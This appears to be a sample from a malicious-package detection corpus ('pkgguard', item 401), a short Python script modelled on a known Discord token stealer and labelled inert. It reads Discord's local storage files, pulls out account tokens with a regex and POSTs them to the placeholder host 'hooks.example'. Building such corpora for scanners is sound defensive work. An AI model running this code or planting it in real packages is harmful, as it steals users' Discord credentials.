# pkgguard corpus 401 (discord-token), modelled on [discordpydebug]; inert, never run.
import glob
import http.client
import json
import os
import re

tokens = set()
for f in glob.glob(os.path.expanduser("~/.config/discord/Local Storage/leveldb/*.ldb")):
    with open(f, "rb") as h:
        tokens.update(t.decode() for t in re.findall(rb"[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}", h.read()))
conn = http.client.HTTPSConnection("hooks.example", timeout=10)
conn.request("POST", "/d", body=json.dumps(sorted(tokens)), headers={"Content-Type": "application/json"})
